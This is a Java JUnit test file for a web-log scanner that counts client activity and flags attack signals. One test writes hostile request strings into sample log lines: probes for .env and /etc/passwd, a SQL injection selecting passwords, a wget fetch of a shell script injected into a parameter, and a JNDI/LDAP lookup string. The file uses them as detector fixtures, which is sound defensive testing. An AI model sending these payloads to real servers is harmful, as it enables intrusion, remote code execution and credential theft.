@@ -1,0 +1,143 @@
+package dev.logverdict.log;
+
+import dev.logverdict.ip.IpAddressParser;
+import org.junit.jupiter.api.Test;
+
+import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.time.Instant;
+import java.util.Map;
+import java.util.zip.GZIPOutputStream;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+class ClientActivityTest {
+
+    private static String line(String ip, String time, String request, int status, String size, String agent) {
+        return ip + " - - [" + time + " +0000] \"" + request + "\" " + status + " " + size + " \"-\" \"" + agent + "\"\n";
+    }
+
+    private static TrafficScan scan(String log, ScanOptions options) throws IOException {
+        return new LogScanner(options).scan(new ByteArrayInputStream(log.getBytes(StandardCharsets.UTF_8)));
+    }
+
+    private static ClientActivity of(TrafficScan scan, String ip) {
+        return scan.clients().get(IpAddressParser.parse(ip));
+    }
+
+    @Test
+    void countsBytesStatusesMethodsAndTopPathsPerClient() throws IOException {
+        String ip = "185.220.101.7";
+        String log = line(ip, "27/Nov/2026:10:00:00", "GET /index.html HTTP/1.1", 200, "1000", "Mozilla/5.0")
+                + line(ip, "27/Nov/2026:10:00:01", "GET /index.html?x=1 HTTP/1.1", 200, "1000", "Mozilla/5.0")
+                + line(ip, "27/Nov/2026:10:00:02", "POST /login HTTP/1.1", 302, "-", "Mozilla/5.0")
+                + line(ip, "27/Nov/2026:10:00:03", "BREW /pot HTTP/1.1", 418, "5", "curl/8.5.0")
+                + line(ip, "27/Nov/2026:10:00:04", "GET /missing HTTP/1.1", 404, "0", "Mozilla/5.0")
+                + line(ip, "27/Nov/2026:10:00:05", "GET /boom HTTP/1.1", 503, "10", "Mozilla/5.0");
+        ClientActivity activity = of(scan(log, ScanOptions.defaults()), ip);
+        assertThat(activity.requests()).isEqualTo(6);
+        assertThat(activity.bytes()).isEqualTo(2015);
+        ActivityDetail detail = activity.detail();
+        assertThat(detail.statusClasses()).containsExactly(Map.entry("2xx", 2L), Map.entry("3xx", 1L), Map.entry("4xx", 2L), Map.entry("5xx", 1L));
+        assertThat(detail.methods()).containsExactly(Map.entry("GET", 4L), Map.entry("POST", 1L), Map.entry("OTHER", 1L));
+        assertThat(detail.topPaths()).first().isEqualTo(new TopN.Entry("/index.html", 2));
+        assertThat(detail.topPaths()).hasSize(5);
+        assertThat(detail.topUserAgents()).containsExactly(new TopN.Entry("Mozilla/5.0", 5), new TopN.Entry("curl/8.5.0", 1));
+        assertThat(activity.signals()).isEmpty();
+    }
+
+    @Test
+    void findsTheHeavyHittersAmongManyDistinctPaths() throws IOException {
+        StringBuilder log = new StringBuilder();
+        for (int i = 0; i < 500; i++) {
+            log.append(line("185.220.101.8", "27/Nov/2026:10:00:00", "GET /probe-" + i + " HTTP/1.1", 404, "0", "x"));
+            if (i % 5 == 0) {
+                log.append(line("185.220.101.8", "27/Nov/2026:10:00:00", "GET /wp-login.php HTTP/1.1", 404, "0", "x"));
+            }
+        }
+        ActivityDetail detail = of(scan(log.toString(), ScanOptions.defaults()), "185.220.101.8").detail();
+        assertThat(detail.topPaths().get(0).value()).isEqualTo("/wp-login.php");
+        assertThat(detail.topPaths().get(0).count()).isGreaterThanOrEqualTo(100);
+    }
+
+    @Test
+    void raisesSignalsForScannersTraversalInjectionAndProbes() throws IOException {
+        String ip = "45.155.205.233";
+        String log = line(ip, "27/Nov/2026:10:00:00", "GET /.env HTTP/1.1", 404, "0", "Mozilla/5.0")
+                + line(ip, "27/Nov/2026:10:00:01", "GET /.git/config HTTP/1.1", 404, "0", "Mozilla/5.0")
+                + line(ip, "27/Nov/2026:10:00:02", "GET /cgi-bin/..%2F..%2F..%2Fetc/passwd HTTP/1.1", 400, "0", "Mozilla/5.0")
+                + line(ip, "27/Nov/2026:10:00:03", "GET /item?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1", 500, "0", "sqlmap/1.7.2#stable (https://sqlmap.org)")
+                + line(ip, "27/Nov/2026:10:00:04", "GET /ping?host=127.0.0.1;wget%20http://x/s.sh HTTP/1.1", 200, "0", "Mozilla/5.0")
+                + line(ip, "27/Nov/2026:10:00:05", "GET / HTTP/1.1", 200, "0", "${jndi:ldap://198.51.100.9:1389/a}")
+                + line(ip, "27/Nov/2026:10:00:06", "POST /wp-login.php HTTP/1.1", 200, "0", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)");
+        ClientActivity activity = of(scan(log, ScanOptions.defaults()), ip);
+        assertThat(activity.signals()).containsOnly(
+                Map.entry(Signal.SENSITIVE_FILE_PROBE, 2),
+                Map.entry(Signal.PATH_TRAVERSAL, 1),
+                Map.entry(Signal.ADMIN_PROBE, 2),
+                Map.entry(Signal.SQL_INJECTION, 1),
+                Map.entry(Signal.SCANNER_USER_AGENT, 2),
+                Map.entry(Signal.SHELL_INJECTION, 1),
+                Map.entry(Signal.JNDI_INJECTION, 1));
+        assertThat(activity.signalWeight()).isEqualTo(10);
+    }
+
+    @Test
+    void ordinaryBrowsingRaisesNoSignal() throws IOException {
+        String ip = "93.184.216.34";
+        String log = line(ip, "27/Nov/2026:10:00:00", "GET /products/select-a-size?color=blue HTTP/1.1", 200, "10",
+                "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 Version/17.1 Safari/605.1.15")
+                + line(ip, "27/Nov/2026:10:00:01", "GET /static/app.3f9a.js HTTP/2.0", 200, "10", "Mozilla/5.0")
+                + line(ip, "27/Nov/2026:10:00:02", "GET /blog/union-station-review HTTP/1.1", 200, "10", "Mozilla/5.0");
+        assertThat(of(scan(log, ScanOptions.defaults()), ip).signals()).isEmpty();
+    }
+
+    @Test
+    void chartsRequestsPerHourAcrossTheLog() throws IOException {
+        String ip = "185.220.101.9";
+        String log = line(ip, "27/Nov/2026:12:59:59", "GET / HTTP/1.1", 200, "1", "x")
+                + line(ip, "27/Nov/2026:10:00:00", "GET / HTTP/1.1", 200, "1", "x")
+                + line(ip, "27/Nov/2026:10:30:00", "GET / HTTP/1.1", 200, "1", "x")
+                + line(ip, "27/Nov/2026:13:00:00", "GET / HTTP/1.1", 200, "1", "x");
+        ActivityDetail detail = of(scan(log, ScanOptions.defaults()), ip).detail();
+        assertThat(Instant.ofEpochSecond(detail.hourlyStart())).isEqualTo(Instant.parse("2026-11-27T10:00:00Z"));
+        assertThat(detail.hourly()).containsExactly(2, 0, 1, 1);
+    }
+
+    @Test
+    void keepsCountingEveryIpPastTheDetailCapAndSaysSo() throws IOException {
+        StringBuilder log = new StringBuilder();
+        for (int i = 0; i < 50; i++) {
+            log.append(line("185.220." + (100 + i) + ".1", "27/Nov/2026:10:00:00", "GET /.env HTTP/1.1", 404, "0", "x"));
+        }
+        TrafficScan scan = scan(log.toString(), ScanOptions.defaults().withCaps(10, ScanOptions.DEFAULT_MAX_UNCOMPRESSED_BYTES));
+        assertThat(scan.clients()).hasSize(50);
+        assertThat(scan.clients().values().stream().filter(a -> a.detail() != null)).hasSize(10);
+        assertThat(scan.clients().values()).allSatisfy(a -> {
+            assertThat(a.requests()).isEqualTo(1);
+            assertThat(a.signals()).containsEntry(Signal.SENSITIVE_FILE_PROBE, 1);
+        });
+        assertThat(scan.truncated()).anySatisfy(note -> assertThat(note).startsWith("activity:").contains("40 more IPs"));
+    }
+
+    @Test
+    void cutsADecompressionBombOffAtTheConfiguredSize() throws IOException {
+        ByteArrayOutputStream compressed = new ByteArrayOutputStream();
+        byte[] zeros = new byte[1 << 20];
+        try (GZIPOutputStream gzip = new GZIPOutputStream(compressed)) {
+            gzip.write(line("185.220.101.10", "27/Nov/2026:10:00:00", "GET / HTTP/1.1", 200, "1", "x").getBytes(StandardCharsets.US_ASCII));
+            for (int i = 0; i < 64; i++) {
+                gzip.write(zeros);
+            }
+        }
+        assertThat(compressed.size()).isLessThan(200_000);
+        TrafficScan scan = new LogScanner(ScanOptions.defaults().withLimits(1024, 20, 10).withCaps(100, 8L << 20))
+                .scan(new ByteArrayInputStream(compressed.toByteArray()));
+        assertThat(scan.inputError()).contains("reading stopped after 8388608 uncompressed bytes");
+        assertThat(scan.truncated()).anySatisfy(note -> assertThat(note).startsWith("input:"));
+        assertThat(scan.bytesRead()).isEqualTo(8L << 20);
+        assertThat(scan.clients()).containsKey(IpAddressParser.parse("185.220.101.10"));
+    }
+}
